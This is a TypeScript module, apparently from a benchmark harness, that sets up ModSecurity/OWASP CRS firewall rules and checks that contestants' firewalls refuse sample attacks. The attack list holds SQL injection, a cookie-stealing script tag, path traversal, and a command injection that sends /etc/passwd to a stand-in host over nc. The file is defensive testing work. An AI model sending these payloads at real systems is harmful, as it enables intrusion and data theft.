import { existsSync, globSync } from 'node:fs';
import path from 'node:path';
import type { Work } from './args.ts';
import { callOnce } from './answers.ts';
import { bodyOf, ordersTarget } from './workload.ts';

/** What contestants with a firewall need: rules, nginx' module, and requests that they must refuse. */

/** Works on which a firewall is measured: it looks at values, and the plain ones have none. */
export const FIREWALL_WORKS: readonly Work[] = ['get', 'post', 'prose'];

/** OWASP CRS lies beside the repository, where it is there at all. */
export const CRS = path.resolve(import.meta.dirname, '../../shared/crs');
const BUILTIN = path.resolve(import.meta.dirname, '../rules');

/** Where Debian puts nginx' module, and the table of code points that the rules ask for. */
export const NGINX_MODULE = '/usr/lib/nginx/modules/ngx_http_modsecurity_module.so';
const UNICODE = ['/etc/modsecurity/unicode.mapping', '/etc/nginx/unicode.mapping'];
export const unicodeMap = (): string | undefined => UNICODE.find((file) => existsSync(file));

const NO_CRS = 'OWASP CRS is not there: ../shared/crs';

/** Why nginx cannot run with libmodsecurity here. */
export function missingForNginx(): string | undefined {
  if (!existsSync(NGINX_MODULE) || unicodeMap() === undefined)
    return "nginx' module is not installed: apt-get install libnginx-mod-http-modsecurity";
  return existsSync(`${CRS}/rules`) ? undefined : NO_CRS;
}

/** Why Portcullis cannot run with these rules here. */
export function missingForPortcullis(rules: Rules): string | undefined {
  if (rules === 'crs') return existsSync(`${CRS}/rules`) ? undefined : NO_CRS;
  return globSync(`${BUILTIN}/*.conf`).length > 0 ? undefined : 'the built-in rules are not there: rules/*.conf';
}

/** What a contestant's firewall judges by; `none` where it has none. */
export type Rules = 'none' | 'crs' | 'builtin';

/** The section `waf` of Portcullis' configuration. */
export function wafSection(rules: Rules): string {
  if (rules === 'none') return '{ mode: "off" }';
  const files = rules === 'crs' ? `${CRS}/crs-setup.conf.example, ${CRS}/rules/*.conf` : 'builtin';
  return `{ rules: [${files}], mode: block, paranoia: 1 }`;
}

/** One of each kind that every rule set for the web knows. */
const ATTACKS = [
  "1' UNION SELECT login, password FROM users -- ",
  '<script>alert(document.cookie)</script>',
  '../../../../../../etc/passwd',
  '; cat /etc/passwd | nc evil.example 4444',
];

/**
 * Attacks that pass, each in the last value of a request like those of the load: a firewall that stops reading early, or that did not
 * load its rules, is fast. Undefined: all were refused.
 */
export async function findUnblocked(work: Work, port: number): Promise<string | undefined> {
  for (const attack of ATTACKS) {
    const [method, target, body] = attacking(work, attack);
    const { status } = await callOnce({ protocol: 'http', port, method, target, body });
    if (status !== 403) return `an attack got ${status} instead of 403: ${attack}`;
  }
  return undefined;
}

function attacking(work: Work, attack: string): [method: string, target: string, body: string | undefined] {
  const body = bodyOf(work);
  const target = ordersTarget();
  if (body === undefined) return ['GET', `${target.replace(/&fields=.*$/, '')}&fields=${encodeURIComponent(attack)}`, undefined];
  return ['POST', target, withLastValue(body, attack)];
}

/** The body with another value in its last member: the price of the last item. */
export function withLastValue(body: string, value: string): string {
  const order = JSON.parse(body) as { items: { price: unknown }[] };
  order.items[order.items.length - 1].price = value;
  return JSON.stringify(order);
}
